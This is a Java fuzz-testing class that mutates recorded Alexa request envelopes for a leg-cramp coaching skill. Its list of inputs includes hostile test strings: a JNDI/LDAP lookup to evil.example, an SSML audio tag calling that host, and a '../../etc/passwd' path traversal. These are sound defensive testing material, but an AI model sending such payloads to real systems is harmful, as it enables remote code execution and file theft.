package dev.crampcoach.fuzz;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.node.ArrayNode;
import com.fasterxml.jackson.databind.node.JsonNodeFactory;
import com.fasterxml.jackson.databind.node.ObjectNode;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;

/**
 * Changes recorded envelopes as orders say, in their structure: what comes out is JSON of Alexa's
 * kind, with parts missing, doubled, of another type, out of another conversation or hostile.
 */
final class Mutation {
  private static final JsonNodeFactory JSON = JsonNodeFactory.instance;
  private static final int MOST_CHANGES = 6;

  /** What listeners say, what attackers send, and what numbers and times do not like. */
  private static final List<String> TEXTS =
      List.of(
          "",
          " ",
          "?",
          "-1",
          "0",
          "99999999999999999999",
          "my chest hurts and i can't breathe",
          "it does not hurt and my leg is not swollen",
          "next",
          "yes",
          "stop",
          "no",
          "step three",
          "IntentRequest",
          "LaunchRequest",
          "SessionEndedRequest",
          "AMAZON.StopIntent",
          "AMAZON.FallbackIntent",
          "AMAZON.YesIntent",
          "AboutIntent",
          "seated-butterfly",
          "bedtime-routine",
          "en-XX",
          "2026-13-45T99:99:99Z",
          "1970-01-01T00:00:00Z",
          "+999999999-12-31T23:59:59Z",
          "<speak>&amp;</speak><audio src='https://evil.example/'/>",
          "]]>&&\"'<",
          "{name} %s ${jndi:ldap://evil.example/a}",
          "\u0000\u001b\ufffe\ud800",
          "../../etc/passwd",
          "a".repeat(9_000),
          "my leg is cramping ".repeat(400));

  private final List<JsonNode> recorded;

  Mutation(List<JsonNode> recorded) {
    this.recorded = recorded;
  }

  JsonNode envelope(Orders orders) {
    ObjectNode root = JSON.objectNode();
    root.set("envelope", orders.oneOf(recorded).deepCopy());
    for (int change = 0; change < MOST_CHANGES && !orders.isEmpty() && !root.isEmpty(); change++) {
      change(root, orders);
    }
    return root.path("envelope");
  }

  private void change(ObjectNode root, Orders orders) {
    List<Place> places = new ArrayList<>();
    collect(root, places);
    Place place = orders.oneOf(places);
    switch (orders.oneOf(10)) {
      case 0 -> place.remove();
      case 1 -> place.put(JSON.nullNode());
      case 2 -> place.put(JSON.numberNode(orders.number()));
      case 3 -> place.put(JSON.booleanNode(orders.oneOf(2) == 0));
      case 4 -> place.put(JSON.textNode(orders.oneOf(TEXTS)));
      case 5 -> place.put(JSON.textNode(orders.text()));
      case 6 -> place.put(JSON.objectNode().set("of", place.node()));
      case 7 -> place.put(JSON.arrayNode().add(place.node()).add(place.node().deepCopy()));
      case 8 -> place.put(within(place.node(), orders));
      default -> place.put(elsewhere(place, orders));
    }
  }

  /** A text with a piece of it changed; anything else as a text. */
  private static JsonNode within(JsonNode node, Orders orders) {
    String text = node.isTextual() ? node.asText() : node.toString();
    int from = orders.oneOf(text.length() + 1);
    int to = Math.min(text.length(), from + orders.oneOf(8));
    return JSON.textNode(text.substring(0, from) + orders.text() + text.substring(to));
  }

  /** The same place in another envelope: another scene, another intent. */
  private JsonNode elsewhere(Place place, Orders orders) {
    List<Place> others = new ArrayList<>();
    collect(JSON.objectNode().set("envelope", orders.oneOf(recorded)), others);
    for (Place other : others) {
      if (other.field().equals(place.field())) {
        return other.node().deepCopy();
      }
    }
    return JSON.missingNode();
  }

  private static void collect(JsonNode parent, List<Place> places) {
    if (parent instanceof ObjectNode object) {
      for (Map.Entry<String, JsonNode> field : object.properties()) {
        places.add(new Place(object, field.getKey(), 0));
        collect(field.getValue(), places);
      }
    } else if (parent instanceof ArrayNode array) {
      for (int i = 0; i < array.size(); i++) {
        places.add(new Place(array, "", i));
        collect(array.get(i), places);
      }
    }
  }
}
